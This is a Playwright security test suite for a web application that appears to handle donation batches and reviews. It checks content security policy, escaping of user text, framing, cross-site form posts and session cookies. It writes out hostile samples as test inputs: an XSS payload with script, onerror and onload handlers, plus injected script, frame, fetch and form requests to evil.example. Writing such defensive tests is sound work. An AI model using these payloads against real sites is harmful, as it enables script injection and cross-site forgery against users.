// What a browser makes of it: the policy of scripts, frames, other sites, and words that would like to be a script.

import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";

import type { Page } from "@playwright/test";

import { ACCOUNTS, awake, batchOf, expect, expectNoise, signIn, SUBJECTS, test } from "./support";
import { post, posted } from "./support/post";

const SCRIPT = `</textarea></title><script>window.broken = 1</script><img src=x onerror="window.broken = 1"><svg onload="window.broken = 1">`;

/** Whether a script of somebody else has run. */
async function broken(page: Page): Promise<boolean> {
  return page.evaluate(() => "broken" in window);
}

/** Collects what the policy refuses on every page that is opened from now on. */
async function violations(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction("toldOfViolation", (told: string) => found.push(told));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const tell = (window as unknown as { toldOfViolation: (told: string) => void }).toldOfViolation;
      tell(`${event.documentURI}: ${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return found;
}

/** The kind of page that an address is of: ids and what is asked for don't matter. */
function kind(address: URL): string {
  return address.pathname.replace(/[0-9a-f-]{36}/g, "{id}");
}

test.describe("every page that a person can reach by links", () => {
  test.describe.configure({ mode: "parallel" });

  for (const [role, account] of Object.entries(ACCOUNTS)) {
    // The page collects the console's errors too: the fixture "quiet" fails on them.
    test(`${role}: no page breaks the policy`, async ({ as }) => {
      test.slow();
      const page = await as(account);
      const found = await violations(page);
      const waiting = ["/"];
      const seen = new Set<string>();
      while (waiting.length > 0) {
        const address = waiting.shift()!;
        // With all that it loads; whether the islands are awake doesn't matter here.
        const answer = await page.goto(address, { waitUntil: "networkidle" });
        expect(answer?.status(), address).toBeLessThan(400);
        expect(answer?.headers()["content-security-policy"], address).not.toContain("unsafe-inline");
        // What is folded away is drawn as well.
        await page.evaluate(() => document.querySelectorAll("details").forEach((fold) => (fold.open = true)));
        const links = await page.locator("a[href]").evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href));
        for (const link of links.map((link) => new URL(link))) {
          expect(link.origin, `a link on ${address}`).toBe(new URL(page.url()).origin);
          // Papers are no pages.
          if (!seen.has(kind(link)) && !/\.\w+$|\/prints\/\d+$/.test(link.pathname)) {
            seen.add(kind(link));
            waiting.push(link.pathname + link.search);
          }
        }
      }
      expect(found).toEqual([]);
      expect(seen.size, [...seen].join(" ")).toBeGreaterThanOrEqual(role === "administrator" ? 4 : 8);
    });
  }
});

test("what the policy forbids does not happen, and is told", async ({ as }) => {
  const page = await as(ACCOUNTS.technician);
  const found = await violations(page);
  await page.goto("/");
  await page.evaluate(() => {
    const add = (name: string, attributes: Record<string, string>, text = "") => {
      const element = document.createElement(name);
      Object.entries(attributes).forEach(([key, value]) => element.setAttribute(key, value));
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    add("script", {}, "window.broken = 1");
    add("script", { src: "https://evil.example/x.js" });
    add("img", { src: "x", onerror: "window.broken = 1" });
    add("img", { src: "https://evil.example/x.png" });
    add("iframe", { src: "https://evil.example/" });
    add("object", { data: "https://evil.example/" });
    add("p", { style: "color: red" });
    add("a", { href: "javascript:window.broken = 1" }).click();
    add("base", { href: "https://evil.example/" });
    const form = add("form", { action: "https://evil.example/", method: "post" }) as HTMLFormElement;
    form.submit();
    fetch("https://evil.example/").catch(() => {});
  });
  await expect.poll(() => new Set(found.map((told) => told.split(" ")[1])).size).toBeGreaterThanOrEqual(8);
  for (const directive of ["script-src-elem", "script-src-attr", "img-src", "frame-src", "style-src-attr", "connect-src", "form-action", "base-uri", "object-src"]) {
    expect(found.map((told) => told.split(" ")[1])).toContain(directive);
  }
  expect(await broken(page)).toBe(false);
  // Not waited for: the form that was stopped counts as a way that is never done.
  expect(new URL(page.url()).pathname).toBe("/");
  expectNoise(/Content Security Policy|Refused|evil\.example/);
});

test("words stay words wherever they are read again", async ({ as }) => {
  test.slow();
  const technician = await as(ACCOUNTS.technician);
  const batch = await batchOf(technician, SUBJECTS.expanding);
  const id = batch.split("/").pop()!;
  await posted(technician, "comment", { batch: id, text: SCRIPT });
  await posted(technician, "comment", { batch: id, step: "receipt", text: SCRIPT });
  await posted(technician, "raise-deviation", { batch: id, step: "receipt", description: SCRIPT });
  await posted(technician, "correct-entry", { batch: id, step: "receipt", field: "logger", value: SCRIPT, reason: SCRIPT });
  const reviewer = await as(ACCOUNTS.reviewer);
  const found = await violations(reviewer);
  for (const part of ["", "/quality", "/deviations", "/release", "/audit", `/audit?text=${encodeURIComponent(SCRIPT)}`]) {
    await reviewer.goto(batch + part, { waitUntil: "networkidle" });
    expect(await broken(reviewer), part).toBe(false);
    expect(await reviewer.locator("img[src=x], svg[onload]").count(), part).toBe(0);
  }
  await reviewer.goto(`${batch}/deviations`);
  await expect(reviewer.getByText("window.broken = 1").first()).toBeVisible();
  // Typed into a form and refused.
  const harvest = await as(ACCOUNTS.technician);
  await harvest.goto("/harvests/new");
  await awake(harvest);
  await harvest.getByLabel("Subject code").fill(SCRIPT);
  await harvest.getByLabel("Donation identification number (DIN)").fill(SCRIPT);
  await harvest.getByLabel("Collected by").fill(SCRIPT);
  await harvest.getByRole("button", { name: "Register the harvest" }).click();
  await expect(harvest.getByRole("alert").first()).toBeVisible();
  expect(await broken(harvest)).toBe(false);
  expect(found).toEqual([]);
});

/** Another site: `localhost` is not `127.0.0.1`. */
async function elsewhere(html: string): Promise<{ url: string; server: HttpServer }> {
  const server = createServer((_, answer) => {
    answer.setHeader("content-type", "text/html");
    answer.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://localhost:${(server.address() as AddressInfo).port}/`, server };
}

test("no other site frames a page", async ({ as, server }) => {
  const page = await as(ACCOUNTS.technician);
  const other = await elsewhere(`<h1>Elsewhere</h1><iframe src="${server.url}/sign-in"></iframe><iframe src="${server.url}/"></iframe>`);
  await page.goto(other.url);
  await expect(page.getByRole("heading", { name: "Elsewhere" })).toBeVisible();
  for (const frame of page.frames().slice(1)) {
    await expect.poll(() => frame.url()).toMatch(/^chrome-error:/);
  }
  other.server.close();
  expectNoise(/frame|Refused|loads |localhost/i);
});

test("no form of another site is taken, although the person is signed in", async ({ as, server }) => {
  const page = await as(ACCOUNTS.technician);
  const batch = (await batchOf(page, SUBJECTS.expanding)).split("/").pop()!;
  const before = (await page.request.get(`${server.url}/batches/${batch}`)).text();
  for (const encoding of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
    const field = (name: string, value: string) => `<input type="hidden" name="${name}" value="${value}">`;
    const other = await elsewhere(
      `<form method="post" enctype="${encoding}" action="${server.url}/api/comment">${field("batch", batch)}` +
        `${field("command_id", crypto.randomUUID())}${field("text", "planted from elsewhere")}</form><button>Win</button>`,
    );
    await page.goto(other.url);
    const [answer] = await Promise.all([
      page.waitForResponse((answer) => answer.url().endsWith("/api/comment")),
      page.evaluate(() => document.forms[0].submit()),
    ]);
    expect(answer.status(), encoding).toBe(403);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText("Not from this site");
    other.server.close();
  }
  expect(await before).not.toContain("planted from elsewhere");
  await page.goto(`${server.url}/batches/${batch}`);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(await page.content()).not.toContain("planted from elsewhere");
  expectNoise(/loads |localhost/);
});

test("the session is out of reach of scripts, and nothing is left behind when it ends", async ({ page }) => {
  await signIn(page, ACCOUNTS.technician);
  await awake(page);
  expect(await page.evaluate(() => [document.cookie, localStorage.length, sessionStorage.length])).toEqual(["", 0, 0]);
  const session = (await page.context().cookies()).find(({ name }) => name === "autolog")!;
  expect(session).toMatchObject({ httpOnly: true, sameSite: "Strict", path: "/", expires: -1 });
  await page.getByRole("button", { name: "Sign out" }).click();
  await expect(page).toHaveURL(/\/sign-in/);
  // The way back leads to no page of the record.
  await page.goBack();
  await expect(page).toHaveURL(/\/sign-in/);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Sign in");
  // Nor does the token, kept by somebody.
  await page.context().addCookies([session]);
  await page.goto("/");
  await expect(page).toHaveURL(/\/sign-in/);
});

for (const script of [true, false]) {
  test(`an empty signature is told as such and locks nobody out, ${script ? "with" : "without"} script`, async ({ as }) => {
    test.slow();
    const reviewer = await as(ACCOUNTS.reviewer, { script });
    const batch = await batchOf(reviewer, SUBJECTS.waiting);
    for (let time = 0; time < 6; time += 1) {
      await reviewer.goto(`${batch}/release`);
      if (script) {
        await awake(reviewer);
      }
      await reviewer.getByLabel("User name").fill(ACCOUNTS.reviewer.name);
      await reviewer.getByRole("button", { name: "Sign the review" }).click();
      await expect(reviewer.getByRole("alert")).toContainText("Password is empty");
    }
    const reply = await post(reviewer, "sign-review", { batch: batch.split("/").pop()!, seen: "1", user_name: ACCOUNTS.reviewer.name, password: ACCOUNTS.reviewer.password });
    expect(JSON.stringify(reply)).toContain("has changed since this page was opened");
  });
}
